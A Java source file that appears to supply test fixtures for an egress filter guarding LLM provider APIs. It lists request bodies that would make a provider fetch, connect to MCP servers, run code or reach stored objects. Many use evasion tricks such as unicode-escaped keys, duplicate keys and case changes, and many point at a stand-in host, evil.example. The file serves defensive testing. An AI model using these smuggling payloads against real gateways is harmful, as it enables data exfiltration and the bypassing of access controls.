package dev.ash.server.egress.model.request;

import java.util.List;
import java.util.stream.Stream;

/** Requests that would make a provider fetch, connect, execute or refer to a stored object. */
public final class ExfiltrationRequests {
    private static final String URL = "\"https://evil.example/x\"";

    public static List<String> of(RequestFormat format) {
        return switch (format) {
            case ANTHROPIC_MESSAGES -> anthropic();
            case OPENAI_RESPONSES -> openai();
            case OPENAI_CHAT -> chat();
            case GOOGLE_GENERATE -> google();
        };
    }

    static List<String> anthropic() {
        return List.of(
                "{\"mcp_servers\":[{\"type\":\"url\",\"url\":" + URL + ",\"name\":\"e\"}]}",
                "{\"mcp_servers\":[],\"mcp_servers\":[{\"url\":" + URL + "}]}",
                "{\"mcp\\u005fservers\":[{\"url\":" + URL + "}]}",
                "{\"MCP_SERVERS\":[{\"url\":" + URL + "}]}",
                "{\"mcp_\\u017fervers\":[1]}",
                "{\"mcp_servers\\u0000\":[1]}",
                "{\"x\":{\"mcp_servers\":[1]}}",
                "{\"container\":\"container_1\"}",
                "{\"container\":{\"skills\":[{\"type\":\"custom\",\"skill_id\":\"s\"}]}}",
                "{\"betas\":[\"mcp-client-2025-11-20\"]}",
                "{\"new_field\":" + URL + "}",
                "{\"new_field\":[{\"a\":\"evil.example\"}]}",
                "{\"new_field\":\"file_011CNha8iCJcU1wXNR6q4V8w\"}",
                "{\"callback_target\":\"x\"}",
                "{\"webhookId\":1}",
                "{\"model\":{\"endpoint\":\"x\"}}",
                "{\"tools\":{\"0\":{\"type\":\"web_search_20250305\"}}}",
                tool("{\"type\":\"web_search_20250305\",\"name\":\"web_search\"}"),
                tool("{\"name\":\"web_search\",\"type\":\"web_search_20260209\"}"),
                tool("{\"type\":\"web_fetch_20250910\",\"name\":\"web_fetch\"}"),
                tool("{\"type\":\"code_execution_20250825\",\"name\":\"code_execution\"}"),
                tool("{\"type\":\"mcp_toolset\",\"mcp_server_name\":\"e\"}"),
                tool("{\"type\":\"new_tool_20270101\",\"name\":\"n\"}"),
                tool("{\"Type\":\"web_search_20250305\",\"name\":\"n\",\"input_schema\":{}}"),
                tool("{\"name\":\"n\",\"allowed_callers\":[\"code_execution_20250825\"]}"),
                tool("{\"type\":\"custom\",\"name\":\"n\",\"server_url\":" + URL + "}"),
                block("{\"type\":\"image\",\"source\":{\"type\":\"url\",\"url\":" + URL + "}}"),
                block("{\"source\":{\"url\":" + URL + ",\"type\":\"url\"},\"type\":\"image\"}"),
                block("{\"type\":\"image\",\"source\":{\"type\":\"file\",\"file_id\":\"file_1\"}}"),
                block("{\"type\":\"image\",\"source\":{\"type\":\"base64\",\"url\":" + URL + "}}"),
                block("{\"type\":\"image\",\"source\":" + URL + "}"),
                block("{\"type\":\"document\",\"source\":{\"type\":\"url\",\"url\":" + URL + "}}"),
                block(
                        "{\"type\":\"document\",\"source\":{\"type\":\"content\",\"content\":"
                                + "[{\"type\":\"image\",\"source\":{\"type\":\"url\",\"url\":"
                                + URL
                                + "}}]}}"),
                block(
                        "{\"type\":\"tool_result\",\"tool_use_id\":\"t\",\"content\":"
                                + "[{\"type\":\"image\",\"source\":{\"type\":\"url\",\"url\":"
                                + URL
                                + "}}]}"),
                block("{\"type\":\"container_upload\",\"file_id\":\"file_1\"}"),
                block(
                        "{\"type\":\"server_tool_use\",\"id\":\"s\",\"name\":\"web_fetch\",\"input\":{}}"),
                block("{\"type\":\"mcp_tool_use\",\"server_name\":\"e\"}"),
                block("{\"type\":\"new_remote_block\"}"),
                block(
                        "{\"type\":\"new_block\",\"parts\":[{\"type\":\"image\",\"source\":{\"type\":\"url\",\"url\":"
                                + URL
                                + "}}]}"),
                "{\"system\":[{\"type\":\"image\",\"source\":{\"type\":\"url\",\"url\":"
                        + URL
                        + "}}]}");
    }

    static List<String> openai() {
        return Stream.of(
                        "\"previous_response_id\":\"resp_1\"",
                        "\"previous_response_id\":null,\"previous_response_id\":\"resp_1\"",
                        "\"previous\\u005fresponse_id\":\"resp_1\"",
                        "\"Previous_Response_Id\":\"resp_1\"",
                        "\"conversation\":\"conv_1\"",
                        "\"conversation\":{\"id\":\"conv_1\"}",
                        "\"prompt\":{\"id\":\"pmpt_1\"}",
                        "\"background\":true",
                        "\"background\":\"true\"",
                        "\"store\":true",
                        "\"webhook\":\"x\"",
                        "\"new_field\":\"resp_1\"",
                        tools(
                                "{\"type\":\"mcp\",\"server_label\":\"e\",\"server_url\":"
                                        + URL
                                        + "}"),
                        tools("{\"server_url\":" + URL + ",\"type\":\"mcp\"}"),
                        tools("{\"type\":\"mcp\",\"connector_id\":\"connector_dropbox\"}"),
                        tools("{\"type\":\"web_search\"}"),
                        tools("{\"type\":\"web_search_preview_2025_03_11\"}"),
                        tools("{\"type\":\"file_search\",\"vector_store_ids\":[\"vs_1\"]}"),
                        tools("{\"type\":\"code_interpreter\",\"container\":{\"type\":\"auto\"}}"),
                        tools("{\"type\":\"image_generation\"}"),
                        tools("{\"type\":\"computer_use_preview\"}"),
                        tools("{\"type\":\"shell\"}"),
                        tools("{\"type\":\"shell\",\"environment\":{\"type\":\"container_auto\"}}"),
                        tools("{\"type\":\"tool_search\"}"),
                        tools("{\"type\":\"tool_search\",\"execution\":\"server\"}"),
                        tools("{\"name\":\"f\"}"),
                        tools(
                                "{\"type\":\"namespace\",\"name\":\"n\",\"tools\":[{\"type\":\"mcp\",\"server_url\":"
                                        + URL
                                        + "}]}"),
                        "\"tool_choice\":{\"type\":\"mcp\",\"server_label\":\"e\"}",
                        item("{\"type\":\"item_reference\",\"id\":\"msg_1\"}"),
                        item("{\"id\":\"msg_1\"}"),
                        item("{\"type\":null,\"id\":\"msg_1\"}"),
                        item(
                                "{\"type\":\"additional_tools\",\"role\":\"developer\",\"tools\":[{\"type\":\"mcp\"}]}"),
                        item("{\"type\":\"mcp_approval_response\",\"approval_request_id\":\"a\"}"),
                        item("{\"type\":\"web_search_call\",\"id\":\"w\"}"),
                        part("{\"type\":\"input_image\",\"image_url\":" + URL + "}"),
                        part("{\"type\":\"input_image\",\"image_url\":{\"url\":" + URL + "}}"),
                        part("{\"type\":\"input_image\",\"file_id\":\"file-1\"}"),
                        part("{\"type\":\"input_file\",\"file_id\":\"file-1\"}"),
                        part("{\"type\":\"input_file\",\"file_url\":" + URL + "}"),
                        part("{\"type\":\"image_url\",\"image_url\":{\"url\":" + URL + "}}"),
                        item(
                                "{\"type\":\"function_call_output\",\"call_id\":\"c\",\"output\":[{\"type\":\"input_image\",\"image_url\":"
                                        + URL
                                        + "}]}"))
                .map(fields -> "{\"store\":false," + fields + "}")
                .toList();
    }

    private static List<String> chat() {
        return Stream.of(
                        "\"store\":true",
                        "\"store\":\"true\"",
                        "\"st\\u006fre\":true",
                        "\"Store\":true",
                        "\"preset\":\"p\"",
                        "\"model\":\"gpt-4o-search-preview\"",
                        "\"model\":\"GPT-4O-SEARCH-PREVIEW-2025-03-11\"",
                        "\"model\":\"vendor/model:online\"",
                        "\"model\":\"perplexity/sonar-pro\"",
                        "\"model\":\"vendor/model@preset/mine\"",
                        "\"model\":\"" + "m".repeat(300) + "\"",
                        "\"models\":[\"a\",\"b:online\"]",
                        "\"web_search_options\":{}",
                        "\"search_parameters\":{\"mode\":\"on\"}",
                        "\"enable_search\":true",
                        "\"plugins\":[{\"id\":\"web\"}]",
                        "\"mcp_servers\":[{\"url\":" + URL + "}]",
                        "\"webhook\":\"x\"",
                        "\"new_field\":" + URL,
                        "\"new_field\":[{\"a\":\"evil.example\"}]",
                        "\"new_field\":\"file-123\"",
                        tools("{\"type\":\"web_search\"}"),
                        tools("{\"type\":\"openrouter:web_search\"}"),
                        tools("{\"type\":\"mcp\",\"server_url\":" + URL + "}"),
                        tools("{\"type\":\"code_interpreter\"}"),
                        tools("{\"type\":\"browser_search\"}"),
                        tools("{\"function\":{\"name\":\"f\"}}"),
                        tools(
                                "{\"type\":\"function\",\"function\":{\"name\":\"f\",\"url\":"
                                        + URL
                                        + "}}"),
                        "\"tool_choice\":{\"type\":\"mcp\"}",
                        message("\"audio\":{\"id\":\"audio_1\"}"),
                        message("\"new_field\":" + URL),
                        chatPart("{\"type\":\"image_url\",\"image_url\":{\"url\":" + URL + "}}"),
                        chatPart("{\"type\":\"image_url\",\"image_url\":" + URL + "}"),
                        chatPart("{\"type\":\"image_url\",\"image_url\":{\"URL\":" + URL + "}}"),
                        chatPart("{\"type\":\"video_url\",\"video_url\":{\"url\":" + URL + "}}"),
                        chatPart(
                                "{\"type\":\"text\",\"text\":\"x\",\"image_url\":{\"url\":"
                                        + URL
                                        + "}}"),
                        chatPart("{\"image_url\":{\"url\":" + URL + "}}"),
                        chatPart("{\"type\":\"file\",\"file\":{\"file_id\":\"file-1\"}}"),
                        chatPart("{\"type\":\"file\",\"file\":{\"file_data\":" + URL + "}}"),
                        chatPart("{\"type\":\"file_search\",\"query\":\"x\"}"),
                        chatPart(
                                "{\"type\":\"input_audio\",\"input_audio\":{\"data\":"
                                        + URL
                                        + "}}"),
                        message(
                                "\"images\":[{\"type\":\"image_url\",\"image_url\":{\"url\":"
                                        + URL
                                        + "}}]"),
                        "\"prediction\":{\"type\":\"content\",\"content\":[{\"type\":\"image_url\",\"image_url\":{\"url\":"
                                + URL
                                + "}}]}")
                .map(fields -> "{" + fields + "}")
                .toList();
    }

    private static List<String> google() {
        return Stream.of(
                        "\"cachedContent\":\"cachedContents/1\"",
                        "\"cached_content\":\"cachedContents/1\"",
                        "\"cached\\u0043ontent\":\"cachedContents/1\"",
                        "\"CachedContent\":\"cachedContents/1\"",
                        "\"store\":true",
                        "\"new_field\":" + URL,
                        "\"newField\":[\"evil.example\"]",
                        "\"fileSearch\":{}",
                        "\"tools\":{\"googleSearch\":{}}",
                        "\"tools\":[{\"googleSearch\":{}}]",
                        "\"tools\":[{\"google_search\":{}}]",
                        "\"tools\":[{\"google_search\":null}]",
                        "\"tools\":[{\"googleSearchRetrieval\":{}}]",
                        "\"tools\":[{\"urlContext\":{}}]",
                        "\"tools\":[{\"url_context\":{}}]",
                        "\"tools\":[{\"codeExecution\":{}}]",
                        "\"tools\":[{\"code_execution\":{}}]",
                        "\"tools\":[{\"fileSearch\":{\"fileSearchStoreNames\":[\"a\"]}}]",
                        "\"tools\":[{\"googleMaps\":{}}]",
                        "\"tools\":[{\"computerUse\":{}}]",
                        "\"tools\":[{\"mcpServers\":[{\"streamableHttpTransport\":{\"url\":"
                                + URL
                                + "}}]}]",
                        "\"tools\":[{\"mcp_servers\":[1]}]",
                        "\"tools\":[{\"newProviderTool\":{}}]",
                        "\"tools\":[{\"functionDeclarations\":[],\"GoogleSearch\":{}}]",
                        "\"tools\":[{\"functionDeclarations\":[{\"name\":\"f\",\"serverUrl\":"
                                + URL
                                + "}]}]",
                        googlePart(
                                "{\"fileData\":{\"fileUri\":"
                                        + URL
                                        + ",\"mimeType\":\"image/png\"}}"),
                        googlePart("{\"file_data\":{\"file_uri\":\"files/1\"}}"),
                        googlePart("{\"File_Data\":{\"file_uri\":\"files/1\"}}"),
                        googlePart("{\"text\":\"x\",\"newData\":{}}"),
                        googlePart("{\"executableCode\":{\"code\":\"x\"}}"),
                        googlePart("{\"code_execution_result\":{\"output\":\"x\"}}"),
                        googlePart("{\"toolCall\":{\"toolType\":\"URL_CONTEXT\"}}"),
                        googlePart(
                                "{\"inlineData\":{\"mimeType\":\"image/png\",\"uri\":"
                                        + URL
                                        + "}}"),
                        googlePart(
                                "{\"functionResponse\":{\"name\":\"f\",\"response\":{},\"parts\":[{\"fileData\":{\"fileUri\":"
                                        + URL
                                        + "}}]}}"),
                        "\"contents\":{\"parts\":[{\"fileData\":{}}]}",
                        "\"systemInstruction\":{\"parts\":[{\"fileData\":{\"fileUri\":"
                                + URL
                                + "}}]}",
                        "\"system_instruction\":{\"parts\":[{\"file_data\":{\"file_uri\":"
                                + URL
                                + "}}]}",
                        "\"generateContentRequest\":{\"cachedContent\":\"cachedContents/1\"}",
                        "\"generate_content_request\":{\"contents\":[{\"parts\":[{\"fileData\":{\"fileUri\":"
                                + URL
                                + "}}]}]}")
                .map(fields -> "{" + fields + "}")
                .toList();
    }

    private static String message(String field) {
        return "\"messages\":[{\"role\":\"user\",\"content\":\"x\"," + field + "}]";
    }

    private static String chatPart(String part) {
        return "\"messages\":[{\"role\":\"user\",\"content\":[" + part + "]}]";
    }

    private static String googlePart(String part) {
        return "\"contents\":[{\"role\":\"user\",\"parts\":[" + part + "]}]";
    }

    private static String tool(String tool) {
        return "{\"tools\":[{\"name\":\"ok\",\"input_schema\":{}}," + tool + "]}";
    }

    private static String block(String block) {
        return "{\"messages\":[{\"role\":\"user\",\"content\":[" + block + "]}]}";
    }

    private static String tools(String tool) {
        return "\"tools\":[" + tool + "]";
    }

    private static String item(String item) {
        return "\"input\":[" + item + "]";
    }

    private static String part(String part) {
        return item("{\"role\":\"user\",\"content\":[" + part + "]}");
    }

    private ExfiltrationRequests() {}
}
